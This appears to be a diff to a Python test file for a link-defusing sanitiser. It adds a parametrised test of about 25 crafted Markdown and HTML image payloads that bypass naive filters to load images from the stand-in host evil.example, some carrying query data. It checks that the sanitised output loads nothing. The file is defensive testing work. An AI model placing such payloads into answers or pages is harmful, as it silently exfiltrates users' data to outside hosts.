@@ -1,6 +1,9 @@
 """Links and images of an answer: what leads elsewhere stays readable and leads nowhere."""
 
+from html.parser import HTMLParser
+
 import pytest
+from markdown_it import MarkdownIt
 
 from pentad.domain.display.links import defuse_links, find_host, is_allowed
 
@@ -94,6 +97,55 @@ def test_what_leads_elsewhere_is_named_and_leads_nowhere(text: str, becomes: str
 def test_what_stays_at_home_or_is_short_stays(text: str) -> None:
     found = defuse_links(text, allowed=["acme.eu", "*.acme.eu"])
     assert (found.text, found.hosts) == (text, ())
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        r"![a](http\://evil.example/?d=1)",
+        r"![a](https\:\/\/evil.example/?d=1)",
+        r"![a](https://acme.eu\@evil.example/)",
+        r"![a](https://acme.eu\.evil.example/)",
+        r"![a](https\://evil.example\\.acme.eu/)",
+        "![a](https://acme.eu&bsol;.evil.example/)",
+        r"![a](&#104;ttp\://evil.example/)",
+        "![a](" + " " * 300 + "https://evil.example/)",
+        "> ![a](\n> https://evil.example/)",
+        "]( ![a](https://evil.example/)",
+        "](#b ![a](https://evil.example/)",
+        "![b\\]c]\n\n[b\\]c]: https://evil.example/",
+        "![b\nc]\n\n[b\nc]: https://evil.example/",
+        "![a]\n\n[a]:" + " " * 25 + "https://evil.example/",
+        "![a]\n\n[a]: https\\://evil.example/",
+        "![a]\n\n[a]: https://acme.eu]:@evil.example/",
+        "See [b]:\n\n[a]: https://evil.example/\n\n![a]",
+        "[b\\]:\nc]: https://evil.example/\n\n![b\\]:\nc]",
+        '<img alt=">" src="https://evil.example/x">',
+        '<img alt="<" src="https://evil.example/x">',
+        "<img <img src=//evil.example/x>",
+        '<img src            ="/\\evil.example/x">',
+        '<img alt="https://acme.eu/" src="/&#9;/evil.example/x">',
+        '<img alt="https://acme.eu/" src="https:evil.example/x">',
+        '<img src="//acme.eu/" srcset="/\n/evil.example/x">',
+    ],
+)
+def test_what_a_renderer_would_load_is_read_as_the_renderer_reads_it(text: str) -> None:
+    renderer = MarkdownIt("commonmark")
+    assert list_loaded(renderer.render(text)), "it is an attack: the renderer would load something"
+    found = defuse_links(text, allowed=["acme.eu", "*.acme.eu"])
+    assert list_loaded(renderer.render(found.text)) == []
+
+
+def list_loaded(page: str) -> list[str]:
+    """Return the addresses that a page loads images from, as an HTML parser finds them."""
+    loaded: list[str] = []
+
+    class Images(HTMLParser):
+        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+            loaded.extend(value or "" for name, value in attrs if name in ("src", "srcset"))
+
+    Images().feed(page)
+    return loaded
 
 
 def test_an_address_that_the_user_wrote_stays() -> None:
